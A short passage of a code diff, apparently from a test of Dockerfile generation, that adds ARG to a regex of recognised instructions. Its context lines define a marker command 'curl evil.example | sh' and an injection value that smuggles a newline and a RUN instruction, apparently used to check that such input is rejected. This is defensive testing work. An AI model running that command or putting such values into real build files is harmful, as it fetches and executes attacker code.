@@ -32,7 +32,7 @@ function packOf(
   }
 }
 
-const INSTRUCTION = /^(?:FROM|RUN|COPY|ENV|WORKDIR|USER|EXPOSE|HEALTHCHECK|ENTRYPOINT|CMD)\b/;
+const INSTRUCTION = /^(?:FROM|ARG|RUN|COPY|ENV|WORKDIR|USER|EXPOSE|HEALTHCHECK|ENTRYPOINT|CMD)\b/;
 const MARK = 'curl evil.example | sh';
 const EVIL = [
   `x\nRUN ${MARK}`,
